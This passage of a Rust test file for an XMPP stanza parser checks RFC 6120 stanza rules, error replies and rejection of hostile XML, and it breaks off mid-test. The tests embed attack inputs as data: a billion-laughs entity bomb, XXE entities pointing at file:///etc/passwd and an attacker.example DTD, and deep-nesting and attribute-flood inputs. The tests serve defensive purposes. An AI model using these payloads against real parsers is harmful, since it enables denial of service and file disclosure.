//! RFC 6120 (XMPP core): stanza syntax (§8.1, §8.2), stanza errors (§8.3,
//! XERR-1 to XERR-10 of `underlying.md` §7.2), the XML restrictions of
//! §11 and the size floor of §13.12 (XCORE-1 to XCORE-4 of §7.3), and the
//! reader's defences against hostile XML.

use std::time::{Duration, Instant};

use sip_xmpp::ParseLimits;
use sip_xmpp::xmpp::minidom::Element;
use sip_xmpp::xmpp::{
    AddressAttribute, BuildError, DefinedCondition, ErrorType, Iq, IqBuilder, IqType, Message,
    MessageBuilder, MessageType, NS_STANZAS, PresenceBuilder, PresenceType, Stanza, StanzaConfig,
    StanzaError, StanzaFault, StanzaKind, StanzaNamespace, Token, XmlError, XmppError,
};

/// Hostile inputs must be refused well inside this.
const FAST: Duration = Duration::from_millis(500);

fn parse(s: &str) -> Result<Stanza, XmppError> {
    Stanza::parse(s.as_bytes(), &StanzaConfig::default())
}

fn ok(s: &str) -> Stanza {
    parse(s).unwrap_or_else(|e| panic!("{s}: {e}"))
}

fn fault(s: &str) -> StanzaFault {
    match parse(s) {
        Err(XmppError::Invalid { fault, .. }) => fault,
        other => panic!("{s}: expected an invalid stanza, got {other:?}"),
    }
}

fn xml_error(input: &[u8], limits: ParseLimits) -> XmlError {
    let cfg = StanzaConfig {
        limits,
        ..StanzaConfig::default()
    };
    match Stanza::parse(input, &cfg) {
        Err(XmppError::Xml(e)) => e,
        other => panic!("expected an XML error, got {other:?}"),
    }
}

fn xml(s: &str) -> XmlError {
    xml_error(s.as_bytes(), ParseLimits::DEFAULT)
}

/// Runs `f`, asserting it returns within [`FAST`].
fn timed<T>(f: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let out = f();
    let took = start.elapsed();
    assert!(took < FAST, "took {took:?}");
    out
}

fn roomy() -> ParseLimits {
    ParseLimits {
        max_stanza_bytes: 64 * 1024 * 1024,
        ..ParseLimits::DEFAULT
    }
}

const ERR: &str = "urn:ietf:params:xml:ns:xmpp-stanzas";

// ---------------------------------------------------------------- §8.1

/// RFC 6120 §8, §4.8.2; XEP-0114: the three stanza kinds in the three
/// content namespaces; a stanza without `xmlns` takes the stream's.
#[test]
fn s8_stanza_kinds_and_namespaces() {
    for ns in [
        StanzaNamespace::Client,
        StanzaNamespace::Server,
        StanzaNamespace::Component,
    ] {
        let cfg = StanzaConfig::new(ns);
        for (xml, kind) in [
            ("<message/>", StanzaKind::Message),
            ("<presence/>", StanzaKind::Presence),
            (
                "<iq type='get' id='1'><q xmlns='urn:q'/></iq>",
                StanzaKind::Iq,
            ),
        ] {
            let s = Stanza::parse(xml.as_bytes(), &cfg).unwrap();
            assert_eq!((s.kind(), s.namespace()), (kind, ns));
        }
        // An explicit namespace wins over the stream default.
        let s = Stanza::parse(b"<message xmlns='jabber:server'/>", &cfg).unwrap();
        assert_eq!(s.namespace(), StanzaNamespace::Server);
    }
    for (input, name, namespace) in [
        ("<message xmlns='urn:other'/>", "message", "urn:other"),
        ("<stream/>", "stream", "jabber:client"),
        ("<body/>", "body", "jabber:client"),
    ] {
        assert_eq!(
            parse(input),
            Err(XmppError::NotAStanza {
                name: name.into(),
                namespace: namespace.into()
            }),
            "{input}"
        );
    }
    // A prefixed stanza element is still a stanza.
    let s = ok("<x:message xmlns:x='jabber:server'/>");
    assert_eq!(
        (s.kind(), s.namespace()),
        (StanzaKind::Message, StanzaNamespace::Server)
    );
}

/// RFC 6120 §8.1.1, §8.1.2: `to` and `from` are kept as written (JID
/// validation is the JID module's job) but may not be empty.
#[test]
fn s8_1_1_and_8_1_2_addresses() {
    let s = ok("<message to='Romeo@Example.NET/Orchard' from='not a jid, still kept'/>");
    assert_eq!(s.to(), Some("Romeo@Example.NET/Orchard"));
    assert_eq!(s.from(), Some("not a jid, still kept"));
    assert_eq!(
        fault("<presence to=''/>"),
        StanzaFault::EmptyAddress {
            attribute: AddressAttribute::To
        }
    );
    assert_eq!(
        fault("<iq from='' type='result' id='1'/>"),
        StanzaFault::EmptyAddress {
            attribute: AddressAttribute::From
        }
    );
}

/// RFC 6120 §8.1.3: `id` is opaque and kept exactly; IQ requires it.
#[test]
fn s8_1_3_id() {
    let s = ok("<message id=' a&amp;b '/>");
    assert_eq!(s.id(), Some(" a&b "));
    assert_eq!(
        fault("<iq type='get'><q xmlns='urn:q'/></iq>"),
        StanzaFault::MissingId
    );
}

/// RFC 6120 §8.1.5: a stanza without `xml:lang` inherits the stream's; its
/// children inherit the stanza's; an empty value means no language.
#[test]
fn s8_1_5_xml_lang_inheritance() {
    let cfg = StanzaConfig {
        default_lang: Some("en".into()),
        ..StanzaConfig::default()
    };
    let read = |s: &str| Message::try_from(Stanza::parse(s.as_bytes(), &cfg).unwrap()).unwrap();
    let m = read("<message><body>hi</body></message>");
    assert_eq!(m.lang(), Some("en"));
    assert_eq!(m.bodies().collect::<Vec<_>>(), [(Some("en"), "hi")]);
    let m =
        read("<message xml:lang='fr'><body>salut</body><body xml:lang='de'>hallo</body></message>");
    assert_eq!(m.lang(), Some("fr"));
    assert_eq!(
        m.bodies().collect::<Vec<_>>(),
        [(Some("fr"), "salut"), (Some("de"), "hallo")]
    );
    let m = read("<message xml:lang=''><body>?</body></message>");
    assert_eq!(m.lang(), None);
    assert_eq!(m.bodies().collect::<Vec<_>>(), [(None, "?")]);
    // The inherited language is not written into the stanza.
    let m = read("<message><body>hi</body></message>");
    let out = String::from_utf8(m.to_bytes()).unwrap();
    assert!(!out.contains("xml:lang"), "{out}");
}

/// RFC 6120 §8.2.3: IQ semantics: a type is required and one of four; get
/// and set carry exactly one payload, result at most one.
#[test]
fn s8_2_3_iq_semantics() {
    assert_eq!(fault("<iq id='1'/>"), StanzaFault::MissingType);
    assert_eq!(
        fault("<iq id='1' type='query'/>"),
        StanzaFault::UnknownType {
            value: "query".into()
        }
    );
    assert_eq!(
        fault("<iq id='1' type='get'/>"),
        StanzaFault::IqPayload { count: 0 }
    );
    assert_eq!(
        fault("<iq id='1' type='set'><a xmlns='urn:a'/><b xmlns='urn:b'/></iq>"),
        StanzaFault::IqPayload { count: 2 }
    );
    let Stanza::Iq(get) = ok(
        "<iq id='r1' type='get' from='juliet@example.com/balcony'><query xmlns='jabber:iq:roster'/></iq>",
    ) else {
        panic!()
    };
    let result = get.result(None).unwrap();
    assert_eq!(result.iq_type(), IqType::Result);
    assert_eq!(result.id(), Some("r1"));
    assert_eq!(result.to(), Some("juliet@example.com/balcony"));
    assert!(Iq::try_from(ok("<iq id='1' type='result'/>")).is_ok());
}

/// RFC 6120 §8.4: extended content, attributes and text the crate does
/// not understand pass through untouched, namespaces included.
#[test]
fn s8_4_extended_content_passes_through() {
    let input = "<message xmlns='jabber:client' xmlns:e='urn:example:ext' e:flag='1' unknown='x'>\
        <body>hi</body>\
        <e:data kind='a'><inner xmlns=''>text &amp; more</inner><e:deep><x/></e:deep></e:data>\
        <html xmlns='http://jabber.org/protocol/xhtml-im'><body xmlns='http://www.w3.org/1999/xhtml'><p>hi</p></body></html>\
        </message>";
    let s = ok(input);
    let Stanza::Message(m) = &s else { panic!() };
    let payloads: Vec<_> = m
        .payloads()
        .map(|e| (e.name().to_owned(), e.ns()))
        .collect();
    assert_eq!(
        payloads,
        [
            ("data".into(), "urn:example:ext".to_string()),
            (
                "html".into(),
                "http://jabber.org/protocol/xhtml-im".to_string()
            )
        ]
    );
    let data = m.payloads().next().unwrap();
    assert_eq!(data.attr("kind"), Some("a"));
    let inner = data.children().next().unwrap();
    assert!(inner.is("inner", ""));
    assert_eq!(inner.text(), "text & more");
    // An unprefixed child takes the default namespace in scope, the
    // stanza's, not its prefixed parent's.
    let deep = data.children().nth(1).unwrap();
    assert!(deep.is("deep", "urn:example:ext"));
    assert!(deep.children().next().unwrap().is("x", "jabber:client"));
    assert_eq!(s.as_element().attr_ns("urn:example:ext", "flag"), Some("1"));
    assert_eq!(s.as_element().attr("unknown"), Some("x"));
    // Writing and reading back gives the same tree.
    let again = Stanza::parse(&s.to_bytes(), &StanzaConfig::default()).unwrap();
    assert_eq!(again, s);
    assert_eq!(again.into_element(), s.into_element());
}

// ---------------------------------------------------------------- §8.3

/// XERR-1: a stanza that breaks the rules is reported with what is needed
/// to answer it (`bad-request`), and the answer can be built from it.
#[test]
fn xerr_1_invalid_stanza_can_be_answered() {
    let e = parse(
        "<presence from='romeo@example.net/orchard' to='juliet@example.com' id='p1' type='away'/>",
    )
    .unwrap_err();
    assert_eq!(e.reply_condition(), Some(DefinedCondition::BadRequest));
    let head = e.head().unwrap();
    assert_eq!(head.kind, StanzaKind::Presence);
    let reply = head
        .error_reply(&StanzaError::new(DefinedCondition::BadRequest))
        .unwrap();
    assert_eq!(reply.kind(), StanzaKind::Presence);
    assert_eq!(
        reply.error().unwrap().condition,
        DefinedCondition::BadRequest
    );
    // An IQ must be answered; the head of an invalid IQ allows it.
    let e = parse("<iq id='q7' type='get' from='a@b/c'/>").unwrap_err();
    let reply = e
        .head()
        .unwrap()
        .error_reply(&StanzaError::new(DefinedCondition::BadRequest))
        .unwrap();
    let Stanza::Iq(iq) = reply else { panic!() };
    assert_eq!((iq.iq_type(), iq.id()), (IqType::Error, Some("q7")));
    // XML-level faults are stream errors: no stanza answer.
    assert_eq!(
        parse("<message><!-- --></message>")
            .unwrap_err()
            .reply_condition(),
        None
    );
}

/// XERR-2: the error reply swaps `to` and `from`.
#[test]
fn xerr_2_addresses_swapped() {
    let s = ok(
        "<message from='juliet@example.com/balcony' to='nobody@example.net' id='k1'><body>Hello?</body></message>",
    );
    let reply = s
        .error_reply(&StanzaError::new(DefinedCondition::ItemNotFound))
        .unwrap();
    assert_eq!(reply.to(), Some("juliet@example.com/balcony"));
    assert_eq!(reply.from(), Some("nobody@example.net"));
    // No `from` on the original (a client's own stanza): no `to` on the reply.
    let s = ok("<message to='x@example.net'/>");
    let reply = s
        .error_reply(&StanzaError::new(DefinedCondition::ServiceUnavailable))
        .unwrap();
    assert_eq!((reply.to(), reply.from()), (None, Some("x@example.net")));
}

/// XERR-3: the error reply mirrors `id`, for every stanza kind.
#[test]
fn xerr_3_id_mirrored() {
    for input in [
        "<message id='m-1'/>",
        "<presence id='p-1' type='subscribe'/>",
        "<iq id='i-1' type='set'><q xmlns='urn:q'/></iq>",
    ] {
        let s = ok(input);
        let reply = s
            .error_reply(&StanzaError::new(DefinedCondition::NotAllowed))
            .unwrap();
        assert_eq!(reply.kind(), s.kind());
        assert_eq!(reply.id(), s.id());
        assert!(reply.is_error());
    }
}

/// XERR-4: `<error/>` is required in an error stanza and refused in any
/// other, for each kind; the builders enforce the same.
#[test]
fn xerr_4_error_child_iff_error_type() {
    let error = format!("<error type='cancel'><bad-request xmlns='{ERR}'/></error>");
    for (open, close) in [
        ("<message", "</message>"),
        ("<presence", "</presence>"),
        ("<iq id='1'", "</iq>"),
    ] {
        assert_eq!(
            fault(&format!("{open} type='error'>{close}")),
            StanzaFault::MissingError,
            "{open}"
        );
        let non_error = if open.starts_with("<iq") {
            format!("{open} type='result'>{error}{close}")
        } else {
            format!("{open}>{error}{close}")
        };
        assert_eq!(fault(&non_error), StanzaFault::UnexpectedError, "{open}");
        assert!(ok(&format!("{open} type='error'>{error}{close}")).is_error());
    }
    assert_eq!(
        fault(&format!("<message type='error'>{error}{error}</message>")),
        StanzaFault::Duplicate {
            child: sip_xmpp::xmpp::Child::Error
        }
    );
    assert!(matches!(
        PresenceBuilder::new()
            .presence_type(PresenceType::Error)
            .build(),
        Err(BuildError::Invalid(XmppError::Invalid {
            fault: StanzaFault::MissingError,
            ..
        }))
    ));
    assert!(matches!(
        IqBuilder::new(IqType::Result, "1")
            .error(StanzaError::new(DefinedCondition::Conflict))
            .build(),
        Err(BuildError::Invalid(XmppError::Invalid {
            fault: StanzaFault::UnexpectedError,
            ..
        }))
    ));
}

/// XERR-5: `by` names the entity that detected the error; read and
/// written.
#[test]
fn xerr_5_by() {
    let s = ok(&format!(
        "<message type='error'><error type='cancel' by='example.net'><gone xmlns='{ERR}'/></error></message>"
    ));
    assert_eq!(s.error().unwrap().by.as_deref(), Some("example.net"));
    let reply = ok("<message from='a@example.com' to='b@example.net'/>")
        .error_reply(
            &StanzaError::new(DefinedCondition::RecipientUnavailable).with_by("gw.example.net"),
        )
        .unwrap();
    assert_eq!(reply.error().unwrap().by.as_deref(), Some("gw.example.net"));
    assert!(
        String::from_utf8(reply.to_bytes())
            .unwrap()
            .contains("by='gw.example.net'")
    );
}

/// XERR-6: an error stanza may echo the original payload; it is read as
/// the payload. The crate's own replies do not echo it (never needed,
/// and never malformed or oversized data).
#[test]
fn xerr_6_original_payload() {
    let Stanza::Iq(iq) = ok(&format!(
        "<iq type='error' id='1'><query xmlns='jabber:iq:roster'/><error type='cancel'><service-unavailable xmlns='{ERR}'/></error></iq>"
    )) else {
        panic!()
    };
    assert_eq!(iq.payload().unwrap().name(), "query");
    let get = ok("<iq type='get' id='2'><query xmlns='jabber:iq:roster'/></iq>");
    let Stanza::Iq(reply) = get
        .error_reply(&StanzaError::new(DefinedCondition::ServiceUnavailable))
        .unwrap()
    else {
        panic!()
    };
    assert_eq!(reply.payload(), None);
}

/// XERR-7: an error stanza is never answered with an error, nor is an IQ
/// result; this holds for the head of an invalid error stanza too.
#[test]
fn xerr_7_no_error_for_an_error() {
    let s = ok(&format!(
        "<message type='error' id='e'><error type='cancel'><item-not-found xmlns='{ERR}'/></error></message>"
    ));
    assert_eq!(
        s.error_reply(&StanzaError::new(DefinedCondition::BadRequest)),
        Err(BuildError::ReplyToError)
    );
    let e = parse("<presence type='error' id='x'/>").unwrap_err();
    assert_eq!(
        e.head()
            .unwrap()
            .error_reply(&StanzaError::new(DefinedCondition::BadRequest)),
        Err(BuildError::ReplyToError)
    );
    let r = ok("<iq type='result' id='r'/>");
    assert_eq!(
        r.error_reply(&StanzaError::new(DefinedCondition::BadRequest)),
        Err(BuildError::ReplyToResult)
    );
}

/// XERR-8: an unknown condition element, or none, reads as
/// `undefined-condition`; `payment-required` (RFC 3920) is unknown.
#[test]
fn xerr_8_unknown_condition() {
    for condition in [
        format!("<payment-required xmlns='{ERR}'/>"),
        format!("<made-up xmlns='{ERR}'/>"),
        String::new(),
        "<item-not-found/>".to_owned(), // not in the stanzas namespace
    ] {
        let s = ok(&format!(
            "<message type='error'><error type='cancel'>{condition}</error></message>"
        ));
        assert_eq!(
            s.error().unwrap().condition,
            DefinedCondition::UndefinedCondition,
            "{condition}"
        );
    }
    // The legacy numeric code is ignored.
    let s = ok(&format!(
        "<message type='error'><error code='404' type='cancel'><conflict xmlns='{ERR}'/></error></message>"
    ));
    assert_eq!(s.error().unwrap().condition, DefinedCondition::Conflict);
}

/// XERR-9: `<text/>` is diagnostic: kept with its language, never
/// changing the condition.
#[test]
fn xerr_9_text_is_diagnostic() {
    let s = ok(&format!(
        "<message type='error' xml:lang='en'><error type='cancel'><conflict xmlns='{ERR}'/>\
         <text xmlns='{ERR}'>item-not-found</text><text xmlns='{ERR}' xml:lang='de'>Konflikt</text></error></message>"
    ));
    let e = s.error().unwrap();
    assert_eq!(e.condition, DefinedCondition::Conflict);
    assert_eq!(
        e.texts,
        [
            (Some("en".to_owned()), "item-not-found".to_owned()),
            (Some("de".to_owned()), "Konflikt".to_owned())
        ]
    );
    assert_eq!(e.text(), Some("item-not-found"));
    let built = StanzaError::new(DefinedCondition::ItemNotFound).with_text(Some("en"), "Not Found");
    let el = built.to_element(StanzaNamespace::Client);
    let text = el.get_child("text", NS_STANZAS).unwrap();
    assert_eq!(
        text.attr_ns("http://www.w3.org/XML/1998/namespace", "lang"),
        Some("en")
    );
}

/// XERR-10: the five error types read and write; a missing or unknown
/// type reads as the condition's recommended type.
#[test]
fn xerr_10_error_types() {
    for t in [
        ErrorType::Auth,
        ErrorType::Cancel,
        ErrorType::Continue,
        ErrorType::Modify,
        ErrorType::Wait,
    ] {
        let s = ok(&format!(
            "<message type='error'><error type='{t}'><undefined-condition xmlns='{ERR}'/></error></message>"
        ));
        assert_eq!(s.error().unwrap().error_type, t);
        let built = MessageBuilder::new()
            .message_type(MessageType::Error)
            .error(StanzaError::new(DefinedCondition::UndefinedCondition).with_type(t))
            .build()
            .unwrap();
        assert_eq!(built.error().unwrap().error_type, t);
    }
    for c in DefinedCondition::ALL {
        let s = ok(&format!(
            "<message type='error'><error><{c} xmlns='{ERR}'/></error></message>"
        ));
        assert_eq!(s.error().unwrap().error_type, c.default_type(), "{c}");
        assert_eq!(s.error().unwrap().condition, c);
    }
}

/// RFC 6120 §8.3.3.5, §8.3.3.14: `gone` and `redirect` carry an address as
/// character data; other conditions cannot be built with one.
#[test]
fn s8_3_3_gone_and_redirect_addresses() {
    let reply = ok("<message from='a@example.com' to='b@example.net' id='1'/>")
        .error_reply(
            &StanzaError::new(DefinedCondition::Gone).with_condition_text("xmpp:b@example.org"),
        )
        .unwrap();
    assert_eq!(
        reply.error().unwrap().condition_text.as_deref(),
        Some("xmpp:b@example.org")
    );
    assert_eq!(
        ok("<message id='1'/>").error_reply(
            &StanzaError::new(DefinedCondition::NotAcceptable).with_condition_text("xmpp:x@y")
        ),
        Err(BuildError::ConditionText {
            condition: DefinedCondition::NotAcceptable
        })
    );
}

/// RFC 6120 §8.3.2: the application-specific condition is the first
/// child outside the stanzas namespace, kept whole.
#[test]
fn s8_3_2_application_specific_condition() {
    let s = ok(&format!(
        "<iq type='error' id='1'><error type='modify'><bad-request xmlns='{ERR}'/>\
         <too-many-parameters xmlns='http://example.org/ns' limit='3'/></error></iq>"
    ));
    let app = s.error().unwrap().app_specific.as_ref().unwrap();
    assert!(app.is("too-many-parameters", "http://example.org/ns"));
    assert_eq!(app.attr("limit"), Some("3"));
}

// ------------------------------------------------------- §11, §13.12

/// XCORE-1 (RFC 6120 §13.12): a stanza of 10,000 bytes passes the default
/// limits, whatever it spends its bytes on: many bodies, an extension, or
/// one body of almost 10,000 bytes (the token limit, 65,536 by default, is
/// above the floor); a body longer than `max_xml_token_bytes` is refused.
#[test]
fn xcore_1_ten_thousand_bytes_accepted() {
    let mut input = String::from("<message to='romeo@example.net'>");
    while input.len() < 10_000 - 600 {
        input.push_str("<body xml:lang='x");
        input.push_str(&format!("{}'>", input.len()));
        input.push_str(&"a".repeat(40));
        input.push_str("</body>");
    }
    input.push_str("<x xmlns='urn:x'>");
    input.push_str(&"z".repeat(10_000 - input.len() - "</x></message>".len()));
    input.push_str("</x></message>");
    assert_eq!(input.len(), 10_000);
    assert!(parse(&input).is_ok());

    let big_body = format!(
        "<message><body>{}</body></message>",
        "b".repeat(10_000 - 32)
    );
    assert_eq!(big_body.len(), 10_000);
    assert!(parse(&big_body).is_ok());
    let cfg = StanzaConfig {
        limits: ParseLimits {
            max_xml_token_bytes: 9_000,
            ..ParseLimits::DEFAULT
        },
        ..StanzaConfig::default()
    };
    assert!(matches!(
        Stanza::parse(big_body.as_bytes(), &cfg).unwrap_err().xml(),
        Some(XmlError::TokenTooLong {
            token: Token::Text,
            ..
        })
    ));

    let tight = ParseLimits {
        max_stanza_bytes: 9_999,
        ..ParseLimits::DEFAULT
    };
    assert_eq!(
        xml_error(input.as_bytes(), tight),
        XmlError::TooLarge {
            len: 10_000,
            max: 9_999
        }
    );
}

/// XCORE-2 (RFC 6120 §11.1): no comments, processing instructions, DTDs
/// or entity references beyond the five predefined; character references
/// are fine.
#[test]
fn xcore_2_restricted_xml() {
    assert_eq!(
        xml("<message><!-- note --></message>"),
        XmlError::Comment { offset: 9 }
    );
    assert_eq!(
        xml("<!-- note --><message/>"),
        XmlError::Comment { offset: 0 }
    );
    assert_eq!(
        xml("<message><?php echo 1; ?></message>"),
        XmlError::ProcessingInstruction { offset: 9 }
    );
    assert_eq!(
        xml("<message/><?pi?>"),
        XmlError::ProcessingInstruction { offset: 10 }
    );
    assert_eq!(
        xml("<!DOCTYPE message><message/>"),
        XmlError::Doctype { offset: 0 }
    );
    assert_eq!(
        xml("<message><!DOCTYPE x></message>"),
        XmlError::Doctype { offset: 9 }
    );
    assert_eq!(
        xml("<message><body>&nbsp;</body></message>"),
        XmlError::EntityReference { offset: 15 }
    );
    assert_eq!(
        xml("<message id='&custom;'/>"),
        XmlError::EntityReference { offset: 13 }
    );
    let Stanza::Message(m) =
        ok("<message><body>&lt;&gt;&amp;&apos;&quot;&#65;&#x42;&#x1F600;</body></message>")
    else {
        panic!()
    };
    assert_eq!(m.body(), Some("<>&'\"AB\u{1F600}"));
}

/// XCORE-2: the billion laughs needs a DTD, and is refused at its first
/// byte, before any entity could be expanded.
#[test]
fn xcore_2_billion_laughs() {
    let mut doc = String::from("<?xml version='1.0'?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    doc.push_str(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
    for i in 2..=9 {
        let prev = format!("&lol{};", i - 1);
        doc.push_str(&format!(" <!ENTITY lol{i} \"{}\">\n", prev.repeat(10)));
    }
    doc.push_str("]>\n<message><body>&lol9;</body></message>");
    assert_eq!(timed(|| xml(&doc)), XmlError::Doctype { offset: 22 });
    // The same references without the DTD are undeclared entities.
    assert_eq!(
        xml("<message><body>&lol9;</body></message>"),
        XmlError::EntityReference { offset: 15 }
    );
}

/// XCORE-2: an external entity (XXE) needs a DTD too; nothing is fetched
/// or read.
#[test]
fn xcore_2_external_entity() {
    let doc = "<!DOCTYPE message [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><message><body>&xxe;</body></message>";
    assert_eq!(xml(doc), XmlError::Doctype { offset: 0 });
    let doc = "<!DOCTYPE message SYSTEM \"http://attacker.example/evil.dtd\"><message/>";
    assert_eq!(xml(doc), XmlError::Doctype { offset: 0 });
    assert_eq!(
        xml("<message><body>&xxe;</body></message>"),
        XmlError::EntityReference { offset: 15 }
    );
}

/// XCORE-3: only XML 1.0 characters, whether literal or by reference.
#[test]
fn xcore_3_xml_characters_only() {
    for (code, literal) in [
        (0x0u32, "\u{0}"),
        (0x1, "\u{1}"),
        (0x8, "\u{8}"),
        (0xB, "\u{B}"),
        (0xC, "\u{C}"),
        (0x1F, "\u{1F}"),
        (0xFFFE, "\u{FFFE}"),
        (0xFFFF, "\u{FFFF}"),
    ] {
        assert_eq!(
            xml(&format!("<message><body>{literal}</body></message>")),
            XmlError::InvalidChar { offset: 15, code },
            "literal {code:#x}"
        );
        assert_eq!(
            xml(&format!("<message><body>&#x{code:X};</body></message>")),
            XmlError::InvalidChar { offset: 15, code },
            "reference {code:#x}"
        );
        assert_eq!(
            xml(&format!("<message id='{literal}'/>")),
            XmlError::InvalidChar { offset: 13, code },
            "attribute {code:#x}"
        );
    }
    for code in [0xD800u32, 0xDFFF, 0x11_0000] {
        assert_eq!(
            xml(&format!("<message><body>&#{code};</body></message>")),
            XmlError::InvalidChar { offset: 15, code }
        );
    }
    let Stanza::Message(m) = ok(
        "<message><body>\t\n&#xD;\u{20}\u{D7FF}\u{E000}\u{FFFD}\u{10000}\u{10FFFF}&#x9;&#xA;</body></message>",
    ) else {
        panic!()
    };
    assert_eq!(
        m.body(),
        Some("\t\n\r \u{D7FF}\u{E000}\u{FFFD}\u{10000}\u{10FFFF}\t\n")
    );
    assert_eq!(
        Stanza::parse(
            b"<message><body>\xC0\xAF</body></message>",
            &StanzaConfig::default()
        ),
        Err(XmppError::Xml(XmlError::Utf8 { offset: 15 }))
    );
}

/// XCORE-4: the stanza layer keeps document order: children, bodies and
/// extensions come out in the order they came in, so a gateway that keeps
/// the order of stanzas keeps the order within them too.
#[test]
fn xcore_4_order_preserved() {
    let input = "<message><x xmlns='urn:1'/><body xml:lang='a'>1</body><y xmlns='urn:2'/><body xml:lang='b'>2</body><z xmlns='urn:3'/></message>";
    let s = ok(input);
    let Stanza::Message(m) = &s else { panic!() };
    assert_eq!(m.bodies().map(|(_, t)| t).collect::<Vec<_>>(), ["1", "2"]);
    assert_eq!(
        m.payloads()
            .map(|e| e.name().to_owned())
            .collect::<Vec<_>>(),
        ["x", "y", "z"]
    );
    let names: Vec<_> = s
        .as_element()
        .children()
        .map(|c| c.name().to_owned())
        .collect();
    assert_eq!(names, ["x", "body", "y", "body", "z"]);
    let out = String::from_utf8(s.to_bytes()).unwrap();
    let positions: Vec<_> = ["urn:1", ">1<", "urn:2", ">2<", "urn:3"]
        .iter()
        .map(|needle| out.find(needle).unwrap())
        .collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "{out}");
}

// ------------------------------------------------------ hostile XML

/// 10,000 nested elements, the depth at which minidom's recursive reader
/// overflows the stack: refused at depth 33 while reading.
#[test]
fn nesting_10_000_deep_refused() {
    let input = "<a>".repeat(10_000);
    let e = timed(|| xml(&input));
    assert_eq!(
        e,
        XmlError::TooDeep {
            offset: 3 * 32,
            max: 32
        }
    );
}

/// 200,000 nested elements: over the size limit by default; with the
/// size limit lifted, refused at depth 33 after reading 99 bytes.
#[test]
fn nesting_200_000_deep_refused() {
    let input = "<message>".to_owned() + &"<a>".repeat(200_000);
    assert_eq!(
        timed(|| xml(&input)),
        XmlError::TooLarge {
            len: input.len(),
            max: 512 * 1024
        }
    );
    let e = timed(|| xml_error(input.as_bytes(), roomy()));
    assert_eq!(
        e,
        XmlError::TooDeep {
            offset: 9 + 3 * 31,
            max: 32
        }
    );
    // The ceiling holds even when the configured limit does not.
    let unlimited = ParseLimits {
        max_xml_depth: usize::MAX,
        max_xml_elements: usize::MAX,
        ..roomy()
    };
    let e = timed(|| xml_error(input.as_bytes(), unlimited));
    assert!(matches!(e, XmlError::TooDeep { max: 1024, .. }), "{e:?}");
}

/// 1,000,001 attributes on one element: over the size limit by default;
/// with the size limit lifted, refused at the 257th.
#[test]
fn one_million_attributes_refused() {
    let mut input = String::from("<message");
    for i in 0..1_000_001 {
        input.push_str(&format!(" a{i}=''"));
    }
    input.push_str("/>");
    assert!(matches!(timed(|| xml(&input)), XmlError::TooLarge { .. }));
    let e = timed(|| xml_error(input.as_bytes(), roomy()));
    let offset = "<message".len() + (0..256).map(|i| format!(" a{i}=''").len()).sum::<usize>() + 1;
    assert_eq!(e, XmlError::TooManyAttributes { offset, max: 256 });
}

/// More elements than allowed, each shallow.
#[test]
fn too_many_elements_refused() {
    let input = format!("<message>{}</message>", "<x/>".repeat(1_000));
    assert_eq!(
        xml(&input),
        XmlError::TooManyElements {
            offset: 9 + 4 * 999,
            max: 1000
        }
    );
    assert!(
        parse(&format!(
            "<message>{}</message>",
            "<x xmlns='urn:x'/>".repeat(999)
        ))
        .is_ok()
    );
}

/// Huge names, attribute values and texts are refused by the token limit,
/// before the tree holds them.
#[test]
fn huge_tokens_refused() {
    let name = "n".repeat(100_000);
    assert_eq!(
        timed(|| xml(&format!("<{name}/>"))),
        XmlError::TokenTooLong {
            offset: 1,
            token: Token::Name,
            max: 65536
        }
    );
    assert_eq!(
        timed(|| xml(&format!("<message {name}='1'/>"))),
        XmlError::TokenTooLong {
            offset: 9,
            token: Token::Name,
            max: 65536
        }
    );
    let value = "v".repeat(100_000);
    assert_eq!(
        timed(|| xml(&format!("<message id='{value}'/>"))),
        XmlError::TokenTooLong {
            offset: 13,
            token: Token::AttributeValue,
            max: 65536
        }
    );
    assert_eq!(
        timed(|| xml(&format!("<message><body>{value}</body></message>"))),
        XmlError::TokenTooLong {
            offset: 15,
            token: Token::Text,
            max: 65536
        }
    );
    // References count decoded: 65,536 `&amp;` are 65,536 bytes of text.
    assert!(
        parse(&format!(
            "<message><body>{}</body></message>",
            "&amp;".repeat(65536)
        ))
        .is_ok()
    );
    assert!(matches!(
        xml(&format!(
            "<message><body>{}</body></message>",
            "&amp;".repeat(65537)
        )),
        XmlError::TokenTooLong { .. }
    ));
}

/// Duplicate attributes are refused, by name and by namespace; never
/// merged.
#[test]
fn duplicate_attributes_refused() {
    assert_eq!(
        xml("<message id='1' id='2'/>"),
        XmlError::DuplicateAttribute { offset: 16 }
    );
    assert_eq!(
        xml("<message xmlns:a='urn:x' xmlns:b='urn:x' a:k='1' b:k='2'/>"),
        XmlError::DuplicateAttribute { offset: 49 }
    );
    assert_eq!(
        xml("<message xml:lang='en' xml:lang='fr'/>"),
        XmlError::DuplicateAttribute { offset: 23 }
    );
}

/// Prefixes must be bound; `xml` and `xmlns` are reserved.
#[test]
fn unbound_and_reserved_prefixes_refused() {
    assert_eq!(
        xml("<message><x:data/></message>"),
        XmlError::UnboundPrefix { offset: 10 }
    );
    assert_eq!(
        xml("<message x:attr='1'/>"),
        XmlError::UnboundPrefix { offset: 9 }
    );
    assert_eq!(
        xml("<message xmlns:x=''/>"),
        XmlError::ReservedNamespace { offset: 9 }
    );
    assert_eq!(
        xml("<message xmlns:xmlns='urn:x'/>"),
        XmlError::ReservedNamespace { offset: 9 }
    );
}

/// Many prefix declarations on the ancestors do not make lookups slow.
#[test]
fn many_prefix_declarations_stay_fast() {
    let mut input = String::from("<message xmlns:p='urn:p'>");
    for _ in 0..30 {
        input.push_str("<d");
        for i in 0..250 {
            input.push_str(&format!(" xmlns:q{i}='urn:q'"));
        }
        input.push('>');
    }
    for _ in 0..900 {
        input.push_str("<p:e p:a='1' p:b='2' p:c='3'/>");
    }
    for _ in 0..30 {
        input.push_str("</d>");
    }
    input.push_str("</message>");
    let s = timed(|| parse(&input));
    assert!(s.is_ok(), "{s:?}");
}

/// Every truncation of a stanza is refused, never accepted and never a
/// panic.
#[test]
fn truncated_input_refused() {
    let full = "<message xmlns='jabber:client' to='a@b' id='x'><body xml:lang='en'>hi &amp; <![CDATA[<ok>]]></body><x xmlns='urn:x' k='v'/></message>";
    assert!(parse(full).is_ok());
    for end in 0..full.len() {
        let cut = &full[..end];
        match parse(cut) {
